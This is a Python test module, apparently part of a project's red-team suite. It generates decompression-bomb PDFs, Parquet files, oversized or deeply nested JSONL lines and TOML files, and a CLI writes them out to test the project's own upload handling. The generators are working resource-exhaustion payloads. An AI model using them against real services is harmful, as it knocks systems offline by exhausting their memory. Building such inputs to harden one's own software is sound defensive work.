"""Red-team payloads that are binary, generated on demand (issues 12, 25): decompression-bomb PDFs (a page
stream, or page images), and Parquet question-file bombs. Text payloads live in ``tests/fixtures/attacks/``.

    python -m tests.attacks bomb OUT.pdf [--mb 40]       # write one, to try by hand or in a benchmark
    python -m tests.attacks image-bomb OUT.pdf [--pages 8] [--side 20000] [--bits 8]
    python -m tests.attacks file-bombs FOLDER             # the question-file bombs of issue 39, one of each
"""

from __future__ import annotations

import argparse
import zlib
from collections.abc import Callable
from pathlib import Path

import pymupdf


def bomb_pdf(path: Path, inflated_mb: int = 40, pages: int = 1) -> Path:
    """A small PDF whose page content stream inflates to ``inflated_mb`` MB of text-showing operators.

    Deflate packs the repetitive stream about 300:1, so 40 MB inflates from ~140 KB: the shape of the
    red team's 143 KB file that took the server from 0.5 to 8.4 GB."""
    doc = pymupdf.open()
    # every run of text is set back onto the page (Tm), so each word is kept: millions of words
    line = b"".join(b"1 0 0 1 %d %d Tm (w%d w%d w%d w%d w%d w%d) Tj " % (10 + i % 40 * 13, 40 + i % 70 * 11, *(
        range(i, i + 6))) for i in range(0, 700, 7))
    body = b"BT /F1 4 Tf " + line * (inflated_mb * 2**20 // len(line)) + b"ET"
    for _ in range(pages):
        page = doc.new_page()
        page.insert_text((10, 20), "bomb", fontname="helv")  # gives the page a font resource
        font = doc.xref_get_key(page.xref, "Resources/Font")[1]
        name = font.strip("<>").split("/")[1].split()[0]
        doc.update_stream(page.get_contents()[0], body.replace(b"/F1", b"/" + name.encode()), compress=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    doc.save(path, garbage=0, deflate=False)
    doc.close()
    return path


def deflated_zeros(size: int, chunk: int = 2**22) -> bytes:
    """A zlib stream of ``size`` zero bytes (a multiple of ``chunk``), built in about a second whatever the
    size: after a full flush, each chunk of zeros deflates to the same bytes, so one is repeated."""
    if size % chunk:
        raise ValueError(f"size must be a multiple of {chunk}")
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate; header and checksum are added below
    zeros = bytes(chunk)
    block = raw.compress(zeros) + raw.flush(zlib.Z_FULL_FLUSH)
    again = raw.compress(zeros) + raw.flush(zlib.Z_FULL_FLUSH)
    if block != again:
        raise RuntimeError("zlib did not repeat itself; build the stream the slow way")
    adler = 1
    for _ in range(size // chunk):
        adler = zlib.adler32(zeros, adler)
    return b"\x78\xda" + block * (size // chunk) + raw.flush() + adler.to_bytes(4, "big")


def image_bomb_pdf(path: Path, pages: int = 8, side: int = 20_000, bits: int = 8) -> Path:
    """A PDF of ``pages`` pages, each with a line of real text and a ``side`` x ``side`` RGB image of ``bits``
    bits per component, deflated twice (a few KB a page): the red team's 21 KB file whose thumbnails froze the
    web app (issue 25). Drawing one page inflates side² x 3 x bits/8 bytes; memory stays low."""
    size = side * side * 3 * bits // 8
    # whole 4 MB chunks only: the few bytes short of the declared size MuPDF draws as blank
    stream = zlib.compress(deflated_zeros(size - size % 2**22), 9)
    doc = pymupdf.open()
    for n in range(pages):
        page = doc.new_page()
        page.insert_text((72, 72), f"Page {n + 1}: the capybara census counted {400 + n} animals.", fontsize=11)
        image = doc.get_new_xref()
        doc.update_object(image, f"<< /Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace "
                                 f"/DeviceRGB /BitsPerComponent {bits} >>")
        doc.update_stream(image, stream, compress=False)
        doc.xref_set_key(image, "Filter", "[/FlateDecode /FlateDecode]")  # after: update_stream drops it
        kind, value = doc.xref_get_key(page.xref, "Resources")
        if kind == "xref":
            doc.xref_set_key(int(value.split()[0]), "XObject", f"<< /Im0 {image} 0 R >>")
        else:
            doc.xref_set_key(page.xref, "Resources/XObject", f"<< /Im0 {image} 0 R >>")
        content = doc.get_new_xref()
        doc.update_object(content, "<< >>")
        doc.update_stream(content, b"q 500 0 0 500 48 200 cm /Im0 Do Q")
        doc.xref_set_key(page.xref, "Contents", "[" + " ".join(f"{x} 0 R" for x in (*page.get_contents(),
                                                                                  content)) + "]")
    path.parent.mkdir(parents=True, exist_ok=True)
    doc.save(path, garbage=0, deflate=False)
    doc.close()
    return path


def parquet_bomb(path: Path, strings: int = 8, mb: int = 256) -> Path:
    """A few-KB Parquet question file whose ``strings`` question texts are ``mb`` MB each once unpacked
    (the red team's was 9 KB holding 8 x 256 MB and took 6.3 GB to read)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    texts = [chr(ord("a") + i) * (mb * 2**20) for i in range(strings)]
    table = pa.table({"id": [f"b{i}" for i in range(strings)], "question": texts})
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, path, compression="zstd", use_dictionary=False)
    return path


def dictionary_bomb(path: Path, rows: int = 16_000, mb: int = 1) -> Path:
    """A Parquet question file of ``rows`` questions whose text is one ``mb`` MB string, dictionary-encoded:
    tens of KB on disk, declaring about ``mb`` MB unpacked (the dictionary), decoding to ``rows`` x ``mb`` MB
    (issue 39: an 8,469-byte file took the server from 490 MB to 3,538 MB). Built without ever holding the
    decoded column."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    text = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["q" * (mb * 2**20)]))
    table = pa.table({"id": [f"b{i}" for i in range(rows)], "question": text})
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table, path, compression="zstd")
    return path


def huge_line_jsonl(path: Path, mb: int = 48) -> Path:
    """A JSONL question file of one valid line ``mb`` MB long (under the 50 MB file cap)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as out:
        out.write(b'{"id": "h1", "question": "')
        for _ in range(mb):
            out.write(b"w" * 2**20)
        out.write(b'"}\n')
    return path


def tiny_lines_jsonl(path: Path, mb: int = 48) -> Path:
    """``mb`` MB of ``{}`` lines: 16 million empty objects, a dict each once parsed (over 1 GB read whole)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as out:
        for _ in range(mb):
            out.write(b"{}\n" * (2**20 // 3))
    return path


def wide_line_jsonl(path: Path, lines: int = 14, mb: int = 3) -> Path:
    """``lines`` lines under the line cap, each an object holding ``mb`` MB of ``{},``: small to send, one
    dict per three bytes once parsed (~70 bytes each), so a few lines would be a gigabyte."""
    body = b"{}," * (mb * 2**20 // 3)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as out:
        for n in range(lines):
            out.write(b'{"id": "w%d", "question": "q?", "pad": [' % n + body + b'{}]}\n')
    return path


def deep_jsonl(path: Path, depth: int = 2_000_000) -> Path:
    """One line nested ``depth`` deep (``[[[[...]]]]``) among good lines: a RecursionError, or worse, to
    a reader that is not careful."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b'{"id": "ok", "question": "fine?"}\n{"id": "d", "question": "q", "x": '
                     + b"[" * depth + b"]" * depth + b'}\n')
    return path


def toml_bomb(path: Path, depth: int = 100_000, mb: int = 0) -> Path:
    """A config file nested ``depth`` deep (``v = [[[...]]]``), or with ``mb`` MB of one string: TOML has no
    references, so size and nesting are its bombs."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if mb:
        path.write_bytes(b'description = "' + b"t" * (mb * 2**20) + b'"\n')
    else:
        path.write_bytes(b"top_k = " + b"[" * depth + b"]" * depth + b"\n")
    return path


FILE_BOMBS: dict[str, Callable[[Path], Path]] = {"dictionary.parquet": dictionary_bomb, "huge-line.jsonl": huge_line_jsonl,
              "tiny-lines.jsonl": tiny_lines_jsonl, "wide-lines.jsonl": wide_line_jsonl, "deep.jsonl": deep_jsonl,
              "deep.toml": toml_bomb, "big.toml": lambda path: toml_bomb(path, mb=40)}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="kind", required=True)
    b = sub.add_parser("bomb")
    b.add_argument("out", type=Path)
    b.add_argument("--mb", type=int, default=40)
    i = sub.add_parser("image-bomb")
    i.add_argument("out", type=Path)
    i.add_argument("--pages", type=int, default=8)
    i.add_argument("--side", type=int, default=20_000)
    i.add_argument("--bits", type=int, default=8, choices=(8, 16))
    f = sub.add_parser("file-bombs")
    f.add_argument("out", type=Path)
    args = ap.parse_args()
    if args.kind == "file-bombs":
        for name, make in FILE_BOMBS.items():
            path = make(args.out / name)
            print(f"{path}: {path.stat().st_size / 1024:,.0f} KB")
        return
    if args.kind == "image-bomb":
        path = image_bomb_pdf(args.out, args.pages, args.side, args.bits)
        print(f"{path}: {path.stat().st_size / 1024:.0f} KB, {args.pages} pages of {args.side}² images")
        return
    path = bomb_pdf(args.out, args.mb)
    print(f"{path}: {path.stat().st_size / 1024:.0f} KB, inflates to {args.mb} MB")


if __name__ == "__main__":
    main()
